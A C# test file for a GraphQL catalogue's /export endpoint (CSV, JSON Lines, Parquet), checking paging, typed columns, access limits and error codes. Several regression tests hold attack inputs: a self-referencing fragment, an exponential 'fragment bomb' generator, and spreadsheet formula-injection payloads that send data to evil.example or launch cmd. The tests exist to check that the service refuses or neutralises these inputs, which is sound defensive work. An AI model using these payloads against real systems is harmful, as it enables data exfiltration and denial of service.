using System.Net;
using System.Security.Claims;
using System.Text.Json.Nodes;
using Graph.Api.Export;
using Graph.Api.Schema.Execution;
using Graph.Api.Schema.Types;
using Graph.Catalog;
using GraphQLParser.Visitors;
using Microsoft.Extensions.DependencyInjection;
using Parquet;

namespace Graph.Api.Tests.Export;

/// <summary>GET /export: the rows of a connection of a document, every page, as CSV, JSON Lines or Parquet, in the caller's access.</summary>
[Collection(CatalogueCollection.Name)]
public sealed class ExportTests(CatalogueFactory service)
{
    private CatalogSchema Schema => service.Services.GetRequiredService<CatalogExecutor>().Schema;

    private const string SeriesDocument = """
        query Series($modality: String) {
          series(where: { modality: { eq: $modality } }) {
            totalCount
            nodes { seriesInstanceUid modality sliceThickness imageCount sizeBytes contrast study { studyInstanceUid year } }
          }
        }
        """;

    private static string Url(string document, string path, string format, string? variables = null) =>
        $"/export?document={Uri.EscapeDataString(document)}&path={path}&format={format}" + (variables is null ? "" : $"&variables={Uri.EscapeDataString(variables)}");

    /// <summary>Every series (several pages of them) becomes one CSV row with typed, flattened columns, as GraphQL lists them.</summary>
    [Fact]
    public async Task Csv_AllPages_OneRowPerNodeWithFlattenedColumns()
    {
        using var client = service.CreateClient();
        using var response = await client.GetAsync(new Uri(Url(SeriesDocument, "series", "csv") + "&pageSize=100", UriKind.Relative));
        var text = await response.Content.ReadAsStringAsync();
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith("text/csv", response.Content.Headers.ContentType!.ToString(), StringComparison.Ordinal);
        var lines = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("seriesInstanceUid,modality,sliceThickness,imageCount,sizeBytes,contrast,study.studyInstanceUid,study.year", lines[0]);

        var expected = await AllSeriesAsync(client, null);
        Assert.True(expected.Count > 300, "The export should span several pages.");
        Assert.Equal(expected.Count, lines.Length - 1);
        var first = lines[1].Split(',');
        var node = expected[first[0]];
        Assert.Equal((string?)node["modality"] ?? "", first[1]);
        Assert.Equal(node["imageCount"]?.ToString() ?? "", first[3]);
        Assert.Equal((string)node["study"]!["studyInstanceUid"]!, first[6]);
        Assert.Equal(expected.Keys.Order(StringComparer.Ordinal), lines.Skip(1).Select(l => l.Split(',')[0]).Order(StringComparer.Ordinal));
    }

    /// <summary>JSON Lines keep the types: numbers as numbers, booleans as booleans, missing values null; variables filter the rows.</summary>
    [Fact]
    public async Task JsonLines_WithVariables_TypedValues()
    {
        using var client = service.CreateClient();
        var text = await client.GetStringAsync(new Uri(Url(SeriesDocument, "series", "jsonl", """{"modality":"MR"}"""), UriKind.Relative));
        var rows = text.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonNode.Parse(l)!.AsObject()).ToList();
        var expected = await AllSeriesAsync(client, "MR");
        Assert.Equal(expected.Count, rows.Count);
        Assert.All(rows, r => Assert.Equal("MR", (string)r["modality"]!));
        var typed = rows.First(r => r["imageCount"] is not null && r["sliceThickness"] is not null);
        Assert.Equal(System.Text.Json.JsonValueKind.Number, typed["imageCount"]!.GetValueKind());
        Assert.Equal(System.Text.Json.JsonValueKind.Number, typed["sliceThickness"]!.GetValueKind());
        Assert.Equal((double)expected[(string)typed["seriesInstanceUid"]!]["sliceThickness"]!, (double)typed["sliceThickness"]!);
    }

    /// <summary>Parquet columns carry the GraphQL types (int32, int64, double, boolean, string), and the rows and a column sum agree with GraphQL.</summary>
    [Fact]
    public async Task Parquet_TypedColumns_AgreeWithGraphQL()
    {
        using var client = service.CreateClient();
        var bytes = await client.GetByteArrayAsync(new Uri(Url(SeriesDocument, "series", "parquet") + "&pageSize=100", UriKind.Relative));
        using var stream = new MemoryStream(bytes);
        await using var reader = await ParquetReader.CreateAsync(stream);
        var fields = reader.Schema.GetDataFields().ToDictionary(f => f.Name, f => f.ClrType);
        Assert.Equal(typeof(int), fields["imageCount"]);
        Assert.Equal(typeof(long), fields["sizeBytes"]);
        Assert.Equal(typeof(double), fields["sliceThickness"]);
        Assert.Equal(typeof(bool), fields["contrast"]);
        Assert.Contains(fields["study.studyInstanceUid"], new[] { typeof(string), typeof(ReadOnlyMemory<char>) });
        long rows = 0, images = 0;
        for (var group = 0; group < reader.RowGroupCount; group++)
        {
            using var groupReader = reader.OpenRowGroupReader(group);
            rows += groupReader.RowCount;
            var column = new int?[groupReader.RowCount];
            await groupReader.ReadAsync<int>(reader.Schema.GetDataFields().First(f => f.Name == "imageCount"), column.AsMemory());
            images += column.Sum(v => (long)(v ?? 0));
        }

        var expected = await AllSeriesAsync(client, null);
        Assert.Equal(expected.Count, rows);
        Assert.Equal(expected.Values.Sum(n => (long?)(int?)n["imageCount"] ?? 0), images);
    }

    /// <summary>An anonymous caller's export holds only the records an anonymous caller may read, as its GraphQL connection does.</summary>
    [Fact]
    public async Task Anonymous_ExportsOnlyReadableRecords()
    {
        using var anonymous = service.CreateAnonymousClient();
        using var admin = service.CreateClient();
        var document = "{ patients { nodes { pseudonym sex ageAtDiagnosis } } }";
        var lines = (await anonymous.GetStringAsync(new Uri(Url(document, "patients", "csv"), UriKind.Relative))).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var all = (await admin.GetStringAsync(new Uri(Url(document, "patients", "csv"), UriKind.Relative))).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var readable = await TotalAsync(anonymous, "{ patients { totalCount } }");
        Assert.Equal(readable, lines.Length - 1);
        Assert.Equal(CatalogueFactory.Patients, all.Length - 1);
        Assert.True(readable < CatalogueFactory.Patients);
        Assert.Subset(all.ToHashSet(), lines.ToHashSet());
    }

    /// <summary>A nested connection is exported by its path (edges { node } too), reading it from the start.</summary>
    [Fact]
    public async Task NestedPath_EdgesAndFragments_Exported()
    {
        using var client = service.CreateClient();
        var dataset = (string)(await service.DataAsync("{ datasets(first: 1) { nodes { slug } } }"))["datasets"]!["nodes"]![0]!["slug"]!;
        var document = $$"""
            query { datasetByKey(key: "{{dataset}}") { patients(first: 3) { edges { cursor node { ...P } } } } }
            fragment P on Patient { pseudonym sex }
            """;
        var lines = (await client.GetStringAsync(new Uri(Url(document, "datasetByKey.patients", "csv"), UriKind.Relative))).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("pseudonym,sex", lines[0]);
        var total = await TotalAsync(client, $$"""{ datasetByKey(key: "{{dataset}}") { patients { totalCount } } }""");
        Assert.Equal(total, lines.Length - 1);
    }

    /// <summary>Bad requests get 400 with a code and a message naming the input and the reason, before any row is sent.</summary>
    [Theory]
    [InlineData("{ series { nodes { modality } } }", "nope", "csv", "'path'")]
    [InlineData("{ series { nodes { modality } } }", "series", "xml", "'format'")]
    [InlineData("{ datasets { nodes { slug patients { nodes { sex } } } } }", "datasets", "csv", "list of objects")]
    [InlineData("{ series { nodes { modality } } }", "series", "parquet&id=sha256:00", "not both")]
    [InlineData("{ datasetByKey(key: \"x\") { slug } }", "datasetByKey", "csv", "not a connection")]
    [InlineData("mutation { removeRepository(key: \"x\") { key } }", "removeRepository", "csv", "Only queries")]
    [InlineData("{ series(last: 5) { nodes { modality } } }", "series", "csv", "'last'")]
    [InlineData("{ series { totalCount } }", "series", "csv", "nodes")]
    [InlineData("{ series { nodes { modality } } }", "series", "csv&pageSize=0", "'pageSize'")]
    [InlineData("{ series { nodes { modality } } }", "series", "csv&pageSize=99", "from 100 to 1000")]
    public async Task BadRequest_400WithCodeAndReason(string document, string path, string format, string reason)
    {
        using var client = service.CreateClient();
        using var response = await client.GetAsync(new Uri(Url(document, path, format), UriKind.Relative));
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("BAD_USER_INPUT", (string)body["code"]!);
        Assert.Contains(reason, (string)body["message"]!, StringComparison.Ordinal);
    }

    /// <summary>A document that fails validation is answered as GraphQL errors with their codes, with status 400.</summary>
    [Fact]
    public async Task InvalidDocument_GraphQLErrors()
    {
        using var client = service.CreateClient();
        using var response = await client.GetAsync(new Uri(Url("{ series { nodes { modality noSuchField } } }", "series", "csv"), UriKind.Relative));
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("noSuchField", (string)body["errors"]![0]!["message"]!, StringComparison.Ordinal);
    }

    /// <summary>Review, critical: a fragment spreading itself sent to /export by an anonymous caller killed the process (the plan
    /// expanded fragments before validation, without end). It is refused by validation, as /graphql refuses it, naming the fragment.</summary>
    [Fact]
    public async Task FragmentCycle_Anonymous_400NamingTheFragment()
    {
        using var anonymous = service.CreateAnonymousClient();
        using var response = await anonymous.GetAsync(new Uri(Url("{ series { nodes { ...F } } } fragment F on Series { seriesInstanceUid ...F }", "series", "csv"), UriKind.Relative));
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("'F' within itself", (string?)body["errors"]?[0]?["message"], StringComparison.Ordinal);
        Assert.Equal("NO_FRAGMENT_CYCLES", (string?)body["errors"]?[0]?["extensions"]?["code"]);
    }

    /// <summary>The plan refuses a fragment cycle itself (directly or through other fragments), naming it, rather than recursing.</summary>
    [Theory]
    [InlineData("{ series { nodes { ...F } } } fragment F on Series { seriesInstanceUid ...F }", "F -> F")]
    [InlineData("{ series { nodes { ...F } } } fragment F on Series { modality ...G } fragment G on Series { ... on Series { ...F } }", "F -> G -> F")]
    public void Plan_FragmentCycle_RefusedNamingTheCycle(string document, string cycle)
    {
        var (parsed, operation) = ExportPlan.Parse(document, null);
        var refused = Assert.Throws<ExportException>(() => ExportPlan.Create(parsed, operation, "series", Schema));
        Assert.Contains(cycle, refused.Message, StringComparison.Ordinal);
    }

    /// <summary>Review, high: fragments each spreading the next twice (23 levels, 999 bytes) took 12.7 s of /export's CPU, which
    /// /graphql refuses at once. /export refuses them with the same limit before anything expands them.</summary>
    [Fact]
    public async Task FragmentBomb_Anonymous_400QueryTooComplex()
    {
        using var anonymous = service.CreateAnonymousClient();
        using var response = await anonymous.GetAsync(new Uri(Url(FragmentBomb(16), "series", "csv"), UriKind.Relative));
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;
        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Equal("QUERY_TOO_COMPLEX", (string?)body["errors"]?[0]?["extensions"]?["code"]);
        Assert.Contains("MaxExpandedFields", (string?)body["errors"]?[0]?["message"], StringComparison.Ordinal);
    }

    /// <summary>Every page an export runs passes the expanded-fields limit that every GraphQL request passes.</summary>
    [Fact]
    public async Task ExecutePage_FragmentBomb_RefusedByTheExpandedFieldsLimit()
    {
        var executor = service.Services.GetRequiredService<CatalogExecutor>();
        var snapshot = service.Services.GetRequiredService<CatalogIndex>().Current;
        var page = await executor.ExecutePageAsync(GraphQLParser.Parser.Parse(FragmentBomb(16)), null, snapshot, new ClaimsPrincipal(), service.Services, CancellationToken.None);
        Assert.Equal("QUERY_TOO_COMPLEX", page.Errors?.FirstOrDefault()?.Code);
    }

    /// <summary>The plan expands a fragment once in each place, so a fragment bomb costs it what its text costs, not 2^n.</summary>
    [Fact]
    public async Task Plan_FragmentBomb_ExpandsEachFragmentOncePerPlace()
    {
        var (parsed, operation) = ExportPlan.Parse(FragmentBomb(40), null);
        var plan = await Task.Run(() => ExportPlan.Create(parsed, operation, "series", Schema)).WaitAsync(TimeSpan.FromSeconds(10));
        Assert.Equal("seriesInstanceUid", Assert.Single(plan.Columns).Name);
    }

    /// <summary>Review, medium: every page ran the whole document again (a crossTab beside the connection ran once a page, its
    /// answer thrown away). A page runs the path to the connection and its rows only, with the fragments and variables they use.</summary>
    [Fact]
    public async Task Plan_SiblingFields_LeftOutOfEveryPage()
    {
        const string Document = """
            query Q($key: String!, $sex: String, $age: Int) {
              x: crossTab(rows: "series.manufacturer", columns: "series.bodyPart", where: { patients: { ageAtDiagnosis: { gte: $age } } }) { otherRows { text } }
              cohorts { nodes { ...C } }
              datasetByKey(key: $key) { slug patients(where: { sex: { eq: $sex } }) { totalCount nodes { ...P } } }
            }
            fragment C on Cohort { name }
            fragment P on Patient { pseudonym }
            query Other { cohorts { totalCount } }
            """;
        var (parsed, operation) = ExportPlan.Parse(Document, "Q");
        var plan = ExportPlan.Create(parsed, operation, "datasetByKey.patients", Schema);
        plan.SetPage(100, null);
        var page = new SDLPrinter().Print(plan.Document);
        Assert.DoesNotContain("crossTab", page, StringComparison.Ordinal);
        Assert.DoesNotContain("cohorts", page, StringComparison.Ordinal);
        Assert.DoesNotContain("totalCount", page, StringComparison.Ordinal);
        Assert.DoesNotContain("slug", page, StringComparison.Ordinal);
        Assert.DoesNotContain("$age", page, StringComparison.Ordinal);
        Assert.DoesNotContain("Other", page, StringComparison.Ordinal);
        Assert.Contains("fragment P", page, StringComparison.Ordinal);
        Assert.Contains("$sex: String", page, StringComparison.Ordinal);

        var executor = service.Services.GetRequiredService<CatalogExecutor>();
        var snapshot = service.Services.GetRequiredService<CatalogIndex>().Current;
        var result = await executor.ExecutePageAsync(plan.Document, new GraphQL.Inputs(new Dictionary<string, object?> { ["key"] = "none", ["sex"] = "F", ["age"] = 1 }), snapshot, new ClaimsPrincipal(), service.Services, CancellationToken.None);
        Assert.Null(result.Errors);
    }

    /// <summary>A document with fields beside the exported connection, fragments and variables they alone use, is exported whole.</summary>
    [Fact]
    public async Task SiblingFields_ExportedRowsAsWithout()
    {
        using var client = service.CreateClient();
        const string Document = """
            query($modality: String, $age: Int) {
              x: crossTab(rows: "series.manufacturer", columns: "series.bodyPart", where: { patients: { ageAtDiagnosis: { gte: $age } } }) { otherRows { text } }
              cohorts { nodes { ...C } }
              series(where: { modality: { eq: $modality } }) { totalCount nodes { seriesInstanceUid } }
            }
            fragment C on Cohort { name }
            """;
        var text = await client.GetStringAsync(new Uri(Url(Document, "series", "csv", """{"modality":"MR","age":1}""") + "&pageSize=100", UriKind.Relative));
        var rows = text.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).Order(StringComparer.Ordinal);
        Assert.Equal((await AllSeriesAsync(client, "MR")).Keys.Order(StringComparer.Ordinal), rows);
    }

    /// <summary>Review, medium: a cohort named as a spreadsheet formula was written as it is into CSV exports, where opening the
    /// file runs it. CSV neutralises text cells (a leading ' inside quotes, as OWASP advises); JSON Lines keep the text as it is.</summary>
    [Fact]
    public async Task Csv_CohortNamedAsFormula_Neutralised()
    {
        const string Name = "=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")";
        const string Description = "@SUM(1+1)*cmd|' /C calc'!A0";
        await service.DataAsync("""
            mutation($name: String!, $description: String) { saveCohort(input: { name: $name, description: $description, criteria: { patients: { sex: { eq: "F" } } } }) { cohortId } }
            """, new { name = Name, description = Description });
        using var client = service.CreateClient();
        var document = "{ cohorts { nodes { name description } } }";
        var csv = await client.GetStringAsync(new Uri(Url(document, "cohorts", "csv"), UriKind.Relative));
        Assert.Contains("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"x\"\")\",\"'@SUM(1+1)*cmd|' /C calc'!A0\"\r\n", csv, StringComparison.Ordinal);
        var jsonl = await client.GetStringAsync(new Uri(Url(document, "cohorts", "jsonl"), UriKind.Relative));
        Assert.Contains(jsonl.Split('\n', StringSplitOptions.RemoveEmptyEntries), l => (string?)JsonNode.Parse(l)!["name"] == Name && (string?)JsonNode.Parse(l)!["description"] == Description);
    }

    /// <summary>Text that a spreadsheet would run is neutralised in every CSV the service writes (exports and cohort manifests);
    /// numbers stay numbers, negative ones too.</summary>
    [Theory]
    [InlineData("=1+1", "\"'=1+1\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-5", "\"'-5\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\tx", "\"'\tx\"")]
    [InlineData("\rx", "\"'\rx\"")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("a=b", "a=b")]
    [InlineData(-5, "-5")]
    [InlineData(-1.5, "-1.5")]
    [InlineData(true, "true")]
    [InlineData(null, "")]
    public void CsvCell_FormulaText_NeutralisedNumbersKept(object? value, string cell) => Assert.Equal(cell, CsvText.Cell(value));

    /// <summary>The export's CSV writer writes negative numbers as numbers and neutralises text that looks like one.</summary>
    [Fact]
    public async Task CsvWriter_NegativeNumberAndFormulaText_NumberKeptTextNeutralised()
    {
        using var output = new MemoryStream();
        var writer = new CsvExportWriter([new ExportColumn("n", ExportColumnType.Int, false), new ExportColumn("d", ExportColumnType.Float, false), new ExportColumn("s", ExportColumnType.String, false)], output);
        await writer.BeginAsync(CancellationToken.None);
        writer.Write([-5, -0.5, "-5"]);
        await writer.CompleteAsync(CancellationToken.None);
        Assert.Equal("n,d,s\r\n-5,-0.5,\"'-5\"\r\n", System.Text.Encoding.UTF8.GetString(output.ToArray()));
    }

    /// <summary>Review, medium: the audit named the exported path by its response names, which the caller chooses
    /// (<c>cancerTypes: patients</c> was audited as "cancerTypes"). It names the schema fields, as GraphQL reads are audited,
    /// and the operation by the document's own name, not by a query parameter the caller may leave out.</summary>
    [Fact]
    public async Task Audit_AliasedPath_NamesTheSchemaFields()
    {
        using var client = service.CreateClient();
        var url = Url("query AliasedExport { catalogue: datasetByKey(key: \"none\") { cancerTypes: patients { nodes { pseudonym } } } }", "catalogue.cancerTypes", "csv");
        using var response = await client.GetAsync(new Uri(url, UriKind.Relative));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var entry = File.ReadAllLines(Path.Combine(service.DataDirectory, "audit.log")).Select(l => JsonNode.Parse(l)!)
            .Last(e => (string?)e["action"] == "export" && (string?)e["operation"] == "AliasedExport");
        Assert.Equal(["datasetByKey", "patients"], entry["fields"]!.AsArray().Select(f => (string)f!));
    }

    private static async Task<Dictionary<string, JsonNode>> AllSeriesAsync(HttpClient client, string? modality)
    {
        var all = new Dictionary<string, JsonNode>(StringComparer.Ordinal);
        string? after = null;
        do
        {
            using var response = await client.PostAsync(new Uri("/graphql", UriKind.Relative), System.Net.Http.Json.JsonContent.Create(new
            {
                query = """
                    query($after: String, $modality: String) { series(first: 1000, after: $after, where: { modality: { eq: $modality } }) {
                      pageInfo { hasNextPage endCursor } nodes { seriesInstanceUid modality sliceThickness imageCount study { studyInstanceUid } } } }
                    """,
                variables = modality is null ? (object)new { after } : new { after, modality },
            }));
            var series = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["data"]!["series"]!;
            foreach (var node in series["nodes"]!.AsArray())
                all[(string)node!["seriesInstanceUid"]!] = node;
            after = (bool)series["pageInfo"]!["hasNextPage"]! ? (string)series["pageInfo"]!["endCursor"]! : null;
        }
        while (after is not null);
        return all;
    }

    // Fragments F0 .. F(n-1) each spread the next twice: 2^n fields once expanded, in a few bytes per level.
    private static string FragmentBomb(int levels) =>
        "{ series(first: 1) { nodes { ...F0 } } } "
        + string.Concat(Enumerable.Range(0, levels).Select(i => $"fragment F{i} on Series {{ ...F{i + 1} ...F{i + 1} }} "))
        + $"fragment F{levels} on Series {{ seriesInstanceUid }}";

    private static async Task<int> TotalAsync(HttpClient client, string query)
    {
        using var response = await client.PostAsync(new Uri("/graphql", UriKind.Relative), System.Net.Http.Json.JsonContent.Create(new { query }));
        var data = JsonNode.Parse(await response.Content.ReadAsStringAsync())!["data"]!;
        var node = data.AsObject().First().Value!;
        return (int)(node["totalCount"] ?? node["patients"]!["totalCount"])!;
    }
}
